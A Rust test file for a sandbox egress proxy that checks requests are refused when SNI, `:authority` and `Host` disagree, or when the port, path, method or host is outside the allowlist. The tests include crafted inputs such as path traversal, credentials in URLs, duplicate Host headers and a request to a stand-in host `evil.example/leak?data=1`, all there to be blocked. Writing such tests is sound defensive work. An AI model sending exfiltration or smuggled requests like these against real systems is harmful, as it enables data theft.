//! One host per request and stream: SNI, `:authority` and `Host` must agree.

use std::sync::Arc;

use allowlist::Reason;
use http::Request;
use sandbox_proxy_protocol::{BlockReason, Event, RequestOutcome};

use crate::harness::{Answer, Proxy, Setup, Upstream, body, empty, get, raw, raw_tls};

async fn start() -> (Proxy, Upstream) {
    let (mut setup, upstream) = Setup::fresh(&["a.example", "b.example"], &["h2", "http/1.1"]).await;
    setup.policy = "domains: [a.example, b.example]";
    (setup.start().await, upstream)
}

#[tokio::test]
async fn plain_request_with_an_invalid_host_target_or_method_is_refused() {
    let (proxy, _upstream) = start().await;
    // One case of each outcome, and of what hyper parses before us; the full tables are in
    // `http/identity.rs` and `http/head.rs`.
    let cases = [
        ("GET / HTTP/1.1\r\nHost: A.EXAMPLE.:80", 200, ""),
        ("GET http://a.example:80/ HTTP/1.1\r\nHost: a.example", 200, ""),
        ("GET / HTTP/1.0\r\nHost: a.example", 200, ""),
        ("GET / HTTP/1.1", 400, "identity"),
        ("GET / HTTP/1.1\r\nHost: a.example\r\nHost: b.example", 400, "identity"),
        ("GET / HTTP/1.1\r\nHost: \u{e9}.example", 400, "identity"),
        ("GET http://u:p@a.example/ HTTP/1.1\r\nHost: a.example", 400, "identity"),
        ("GET http://b.example/ HTTP/1.1\r\nHost: a.example", 421, "identity_mismatch"),
        ("GET http://a.example:8080/ HTTP/1.1\r\nHost: a.example", 403, "port"),
        ("GET / HTTP/1.1\r\nHost: 10.1.2.3", 403, "host"),
        ("GET /%2e%2e/x HTTP/1.1\r\nHost: a.example", 403, "path"),
        ("GET /a b HTTP/1.1\r\nHost: a.example", 403, "path"),
        ("GET * HTTP/1.1\r\nHost: a.example", 403, "path"),
        ("TRACE / HTTP/1.1\r\nHost: a.example", 403, "method_forbidden"),
        ("CONNECT a.example:80 HTTP/1.1\r\nHost: a.example:80", 403, "method_forbidden"),
    ];
    for (head, status, reason) in cases {
        let answer = raw(&proxy, format!("{head}\r\nConnection: close\r\n\r\n").as_bytes()).await;
        assert_held!(status == 200 || answer.status() != 200, "{head:?}: {answer:?}");
        assert_eq!(answer.status(), status, "{head:?}: {answer:?}");
        let named = reason.is_empty() || answer.0.contains(&format!("x-sandbox-blocked: {reason}\r\n"));
        assert!(named, "{head:?}: {answer:?}");
        let record = proxy.request().await;
        assert_eq!(record.status, Some(status), "{head:?}: {record:?}");
        assert_eq!(record.reason.map_or("", BlockReason::as_str), reason, "{head:?}: {record:?}");
    }
    proxy.stop().await;
}

#[tokio::test]
async fn host_other_than_that_of_the_handshake_is_refused() {
    let (proxy, _upstream) = start().await;
    for (host, status) in [
        ("a.example", 200),
        ("a.example.", 200),
        ("a.example:443", 200),
        ("b.example", 421),
        ("a.example:80", 403),
    ] {
        let head = format!("GET / HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n");
        let answer = raw_tls(&proxy, "a.example", head.as_bytes()).await;
        assert_held!(status == 200 || answer.status() != 200, "{host}: {answer:?}");
        assert_eq!(answer.status(), status, "{host}");
    }
    proxy.stop().await;
}

#[tokio::test]
async fn streams_of_a_connection_are_judged_separately() {
    let (proxy, _upstream) = start().await;
    let mut sender = proxy.http2("a.example").await;
    let cases: &[(&str, Option<&str>, u16)] = &[
        ("https://a.example/", None, 200),
        ("https://b.example/", None, 421),
        ("https://a.example/", Some("b.example"), 421),
        ("https://a.example/", Some("a.example"), 200),
        ("https://a.example:8443/", None, 403),
        ("https://user@a.example/", None, 400),
        ("http://a.example/", None, 400),
        ("https://a.example/ok", None, 200),
    ];
    for (uri, host, status) in cases {
        let mut request = Request::builder().uri(*uri);
        if let Some(host) = host {
            request = request.header("host", *host);
        }
        let response = sender.send_request(request.body(empty()).unwrap()).await.unwrap();
        assert_held!(*status == 200 || response.status() != 200, "{uri} {host:?}");
        assert_eq!(response.status(), *status, "{uri} {host:?}");
        Answer::read(response).await;
    }
    proxy.stop().await;
}

#[tokio::test]
async fn refused_head_over_http2_gets_no_body_and_the_connection_stays_open() {
    let (proxy, _upstream) = start().await;
    let mut sender = proxy.http2("evil.example").await;
    for _ in 0..2 {
        let request = Request::head("https://evil.example/").body(empty()).unwrap();
        let answer = Answer::read(sender.send_request(request).await.unwrap()).await;
        assert_eq!((answer.status.as_u16(), answer.reason(), answer.body.as_str()), (403, "host", ""));
    }
    proxy.stop().await;
}

#[tokio::test]
async fn refused_upload_gets_no_100_continue() {
    let (proxy, _upstream) = start().await;
    let head = "POST / HTTP/1.1\r\nHost: evil.example\r\nContent-Length: 5\r\nExpect: 100-continue\r\n\r\n";
    let answer = raw(&proxy, head.as_bytes()).await;
    assert_eq!(answer.status(), 403, "{answer:?}");
    assert_held!(!answer.0.contains("100 Continue"), "{answer:?}");
    // The control: an allowed request gets its `100 Continue`.
    let allowed = "POST /length HTTP/1.1\r\nHost: a.example\r\nContent-Length: 5\r\nExpect: 100-continue\r\nConnection: close\r\n\r\nhello";
    let answer = raw(&proxy, allowed.as_bytes()).await;
    assert!(answer.0.starts_with("HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 200 OK\r\n"), "{answer:?}");
    proxy.stop().await;
}

#[tokio::test]
async fn refused_upload_without_expect_gets_its_response_and_the_connection_stays_open() {
    let (proxy, _upstream) = start().await;
    let mut sender = proxy.http1("evil.example").await;
    for _ in 0..2 {
        let request = Request::post("/").header("host", "evil.example").body(body("some bytes")).unwrap();
        sender.ready().await.unwrap();
        let answer = Answer::read(sender.send_request(request).await.unwrap()).await;
        assert_eq!((answer.status.as_u16(), answer.reason()), (403, "host"));
    }
    proxy.stop().await;
}

#[tokio::test]
async fn handshake_without_a_readable_server_name_is_refused() {
    let (proxy, _upstream) = start().await;
    for server_name in ["127.0.0.1", "1.2.3.999"] {
        let Ok(name) = rustls::pki_types::ServerName::try_from(server_name.to_owned()) else {
            continue;
        };
        let connector = tokio_rustls::TlsConnector::from(Arc::clone(&proxy.pki.client(&["h2"])));
        let stream = tokio::net::TcpStream::connect(proxy.https()).await.unwrap();
        assert_held!(connector.connect(name, stream).await.is_err(), "{server_name}");
        let (alert, reason) = proxy
            .record(|event| {
                if let Event::TlsRefused { alert, reason, .. } = event { Some((alert, reason)) } else { None }
            })
            .await;
        assert_eq!((alert.as_str(), reason), ("access_denied", Some(Reason::NoSni.into())), "{server_name}");
    }
    proxy.stop().await;
}

#[tokio::test]
async fn refusal_is_recorded_with_host_and_target() {
    let (proxy, _upstream) = start().await;
    let answer = proxy.ask2(get("https://evil.example/leak?data=1")).await;
    assert_eq!(answer.status, 403);
    let json: serde_json::Value = serde_json::from_str(&answer.body).unwrap();
    assert_eq!((&json["error"], &json["path"]), (&"blocked_by_network_allowlist".into(), &"/leak".into()));
    let record = proxy.request().await;
    assert_eq!(
        (record.decision, record.host.as_str(), record.target.as_str()),
        (RequestOutcome::Blocked, "evil.example", "/leak?data=1")
    );
    assert_eq!(record.bytes_down, answer.body.len() as u64);
    proxy.stop().await;
}
